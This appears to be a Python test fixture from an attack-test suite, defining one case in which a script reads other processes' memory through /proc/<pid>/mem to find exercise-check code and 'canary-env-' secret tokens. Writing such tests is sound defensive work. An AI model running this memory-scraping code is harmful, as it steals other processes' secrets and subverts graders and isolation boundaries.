from tests.attacks.attack import Attack

ATTACK = Attack(
    story="Gina reads the memory of the processes around hers with a forensics script.",
    before={
        "threshold": """
import os
import re

needle = re.compile(rb"exercise.check\\(.many rows and features.{0,200}|canary-env-[a-z0-9]+", re.S)
own = os.getpid()
for pid in [int(name) for name in os.listdir("/proc") if name.isdigit()]:
    if pid == own:
        continue
    try:
        with open(f"/proc/{pid}/maps") as maps, open(f"/proc/{pid}/mem", "rb", 0) as memory:
            for line in maps:
                start, stop = (int(part, 16) for part in line.split()[0].split("-"))
                if "rw" in line and stop - start < 2**26:
                    try:
                        memory.seek(start)
                        for hit in needle.findall(memory.read(stop - start)):
                            print(hit.decode(errors="replace"))
                    except (OSError, ValueError):
                        pass
    except OSError:
        pass
""",
    },
)
